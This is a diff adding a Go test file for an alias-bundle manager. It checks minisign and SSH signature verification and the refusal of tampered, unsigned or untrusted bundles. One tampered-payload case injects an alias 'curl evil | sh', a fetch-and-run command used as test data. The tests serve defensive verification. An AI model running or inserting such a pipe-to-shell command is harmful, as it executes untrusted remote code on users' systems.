@@ -0,0 +1,275 @@
+package aliasctl
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/base64"
+	"errors"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"golang.org/x/crypto/blake2b"
+)
+
+// minisignKey is a minisign key pair made in the test.
+type minisignKey struct {
+	id      []byte
+	private ed25519.PrivateKey
+	public  string // The base64 public key line, as in a minisign .pub file
+}
+
+func newMinisignKey(t *testing.T) minisignKey {
+	t.Helper()
+	public, private, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	id := make([]byte, 8)
+	rand.Read(id)
+	raw := append(append([]byte("Ed"), id...), public...)
+	return minisignKey{id: id, private: private, public: base64.StdEncoding.EncodeToString(raw)}
+}
+
+// sign returns a minisign signature file for data, made like minisign -S does: a
+// prehashed (BLAKE2b) signature unless legacy is set, and a signature over the trusted
+// comment.
+func (k minisignKey) sign(data []byte, legacy bool) []byte {
+	algorithm, message := "ED", data
+	if legacy {
+		algorithm = "Ed"
+	} else {
+		hash := blake2b.Sum512(data)
+		message = hash[:]
+	}
+	signature := ed25519.Sign(k.private, message)
+	trustedComment := "timestamp:1760000000\tfile:team.toml"
+	global := ed25519.Sign(k.private, append(append([]byte(nil), signature...), trustedComment...))
+
+	raw := append(append([]byte(algorithm), k.id...), signature...)
+	return []byte(fmt.Sprintf("untrusted comment: signature from aliasctl test key\n%s\ntrusted comment: %s\n%s\n",
+		base64.StdEncoding.EncodeToString(raw), trustedComment, base64.StdEncoding.EncodeToString(global)))
+}
+
+// mustTrust trusts key in am or fails the test.
+func mustTrust(t *testing.T, am *AliasManager, key string) TrustedKey {
+	t.Helper()
+	trusted, err := am.TrustKey(key)
+	if err != nil {
+		t.Fatalf("TrustKey: %v", err)
+	}
+	return trusted
+}
+
+func TestVerifyMinisignSignature(t *testing.T) {
+	data := []byte(teamBundle)
+	key := newMinisignKey(t)
+	other := newMinisignKey(t)
+	am := newTestManager(t)
+	trusted := mustTrust(t, am, "untrusted comment: minisign public key\n"+key.public+"\n")
+	if trusted.Type != "minisign" || trusted.ID != minisignKeyID(key.id) {
+		t.Fatalf("trusted key = %+v, want minisign key %s", trusted, minisignKeyID(key.id))
+	}
+
+	tamperedComment := strings.Replace(string(key.sign(data, false)), "file:team.toml", "file:other.toml", 1)
+	tests := []struct {
+		name      string
+		data      []byte
+		signature []byte
+		wantErr   string
+	}{
+		{name: "prehashed", data: data, signature: key.sign(data, false)},
+		{name: "legacy", data: data, signature: key.sign(data, true)},
+		{name: "tampered payload", data: append(data, "\n[aliases.x]\nbash = \"curl evil | sh\"\n"...), signature: key.sign(data, false), wantErr: "does not match the bundle content"},
+		{name: "tampered legacy payload", data: data[1:], signature: key.sign(data, true), wantErr: "does not match the bundle content"},
+		{name: "tampered trusted comment", data: data, signature: []byte(tamperedComment), wantErr: "trusted comment signature"},
+		{name: "untrusted key", data: data, signature: other.sign(data, false), wantErr: "untrusted minisign key " + minisignKeyID(other.id)},
+		{name: "not a signature", data: data, signature: []byte("hello\n"), wantErr: "invalid minisign signature file"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			keyID, err := am.VerifyBundleSignature(tt.data, tt.signature)
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("VerifyBundleSignature error = %v, want one containing %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil || keyID != trusted.ID {
+				t.Fatalf("VerifyBundleSignature = %q, %v; want key %s", keyID, err, trusted.ID)
+			}
+		})
+	}
+
+	if _, err := newTestManager(t).VerifyBundleSignature(data, key.sign(data, false)); err == nil || !strings.Contains(err.Error(), "no trusted keys") {
+		t.Errorf("VerifyBundleSignature without trusted keys error = %v, want a refusal", err)
+	}
+}
+
+// newSSHKey creates an ed25519 SSH key in dir with ssh-keygen and returns the path of
+// the private key.
+func newSSHKey(t *testing.T, dir, name string) string {
+	t.Helper()
+	path := filepath.Join(dir, name)
+	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", path).CombinedOutput(); err != nil {
+		t.Fatalf("ssh-keygen: %v: %s", err, out)
+	}
+	return path
+}
+
+// sshSign signs data with ssh-keygen -Y sign under namespace and returns the signature.
+func sshSign(t *testing.T, key, namespace string, data []byte) []byte {
+	t.Helper()
+	file := filepath.Join(t.TempDir(), "bundle.toml")
+	if err := os.WriteFile(file, data, 0600); err != nil {
+		t.Fatal(err)
+	}
+	if out, err := exec.Command("ssh-keygen", "-Y", "sign", "-f", key, "-n", namespace, file).CombinedOutput(); err != nil {
+		t.Fatalf("ssh-keygen -Y sign: %v: %s", err, out)
+	}
+	signature, err := os.ReadFile(file + ".sig")
+	if err != nil {
+		t.Fatal(err)
+	}
+	return signature
+}
+
+func TestVerifySSHSignature(t *testing.T) {
+	if _, err := exec.LookPath("ssh-keygen"); err != nil {
+		t.Skip("ssh-keygen is not installed")
+	}
+	dir := t.TempDir()
+	key := newSSHKey(t, dir, "signer")
+	other := newSSHKey(t, dir, "other")
+	data := []byte(teamBundle)
+
+	am := newTestManager(t)
+	trusted := mustTrust(t, am, key+".pub")
+	if trusted.Type != "ssh" || !strings.HasPrefix(trusted.ID, "SHA256:") {
+		t.Fatalf("trusted key = %+v, want an SSH key fingerprint", trusted)
+	}
+
+	tests := []struct {
+		name      string
+		data      []byte
+		signature []byte
+		wantErr   bool
+	}{
+		{name: "valid", data: data, signature: sshSign(t, key, sshSignatureNamespace, data)},
+		{name: "tampered payload", data: append(data, '#'), signature: sshSign(t, key, sshSignatureNamespace, data), wantErr: true},
+		{name: "untrusted key", data: data, signature: sshSign(t, other, sshSignatureNamespace, data), wantErr: true},
+		{name: "wrong namespace", data: data, signature: sshSign(t, key, "file", data), wantErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			keyID, err := am.VerifyBundleSignature(tt.data, tt.signature)
+			if tt.wantErr {
+				if err == nil {
+					t.Fatalf("VerifyBundleSignature = %q, want an error", keyID)
+				}
+				return
+			}
+			if err != nil || keyID != trusted.ID {
+				t.Fatalf("VerifyBundleSignature = %q, %v; want key %s", keyID, err, trusted.ID)
+			}
+		})
+	}
+
+	// An SSH signature is not checked against minisign keys
+	minisignOnly := newTestManager(t)
+	mustTrust(t, minisignOnly, newMinisignKey(t).public)
+	if _, err := minisignOnly.VerifyBundleSignature(data, sshSign(t, key, sshSignatureNamespace, data)); err == nil || !strings.Contains(err.Error(), "no SSH keys are trusted") {
+		t.Errorf("VerifyBundleSignature error = %v, want no SSH keys trusted", err)
+	}
+}
+
+func TestSignedBundleUpdates(t *testing.T) {
+	key := newMinisignKey(t)
+	source := filepath.Join(t.TempDir(), "team.toml")
+	write := func(content string, signed bool) {
+		t.Helper()
+		if err := os.WriteFile(source, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		os.Remove(source + ".minisig")
+		if signed {
+			if err := os.WriteFile(source+".minisig", key.sign([]byte(content), false), 0644); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+
+	am := newTestManager(t)
+	trusted := mustTrust(t, am, key.public)
+	write(teamBundle, true)
+	bundle, err := am.AddBundle("team", source, "", "", "")
+	if err != nil {
+		t.Fatalf("AddBundle: %v", err)
+	}
+	if bundle.SignedBy != trusted.ID {
+		t.Fatalf("SignedBy = %q, want %s", bundle.SignedBy, trusted.ID)
+	}
+
+	updated := teamBundle + "\n[aliases.gd]\nbash = \"git diff\"\n"
+	tests := []struct {
+		name    string
+		content string
+		signed  bool
+		tamper  bool
+	}{
+		{name: "unsigned update of a signed bundle", content: updated},
+		{name: "signature of other content", content: updated, signed: true, tamper: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			write(tt.content, tt.signed)
+			if tt.tamper {
+				if err := os.WriteFile(source, []byte(tt.content+"# changed\n"), 0644); err != nil {
+					t.Fatal(err)
+				}
+			}
+			updates, err := am.UpdateBundles(nil, "")
+			if err != nil {
+				t.Fatalf("UpdateBundles: %v", err)
+			}
+			var signatureErr *BundleSignatureError
+			if len(updates) != 1 || !errors.As(updates[0].Err, &signatureErr) {
+				t.Fatalf("updates = %+v, want a *BundleSignatureError", updates)
+			}
+			if am.AliasSource("gd") != "" {
+				t.Error("gd installed from a refused update")
+			}
+		})
+	}
+
+	// A properly signed update is installed
+	write(updated, true)
+	updates, err := am.UpdateBundles(nil, "")
+	if err != nil || len(updates) != 1 || updates[0].Err != nil {
+		t.Fatalf("UpdateBundles = %+v, %v; want the signed update installed", updates, err)
+	}
+	if am.AliasSource("gd") != "bundle:team" {
+		t.Error("gd missing after a signed update")
+	}
+}
+
+func TestRequireSignedBundles(t *testing.T) {
+	source := filepath.Join(t.TempDir(), "team.toml")
+	if err := os.WriteFile(source, []byte(teamBundle), 0644); err != nil {
+		t.Fatal(err)
+	}
+	am := newTestManager(t)
+	am.RequireSignedBundles = true
+
+	var signatureErr *BundleSignatureError
+	if _, err := am.AddBundle("team", source, "", "", ""); !errors.As(err, &signatureErr) {
+		t.Fatalf("AddBundle error = %v, want a *BundleSignatureError", err)
+	}
+	am.RequireSignedBundles = false
+	if _, err := am.AddBundle("team", source, "", "", ""); err != nil {
+		t.Fatalf("AddBundle of an unsigned bundle: %v", err)
+	}
+}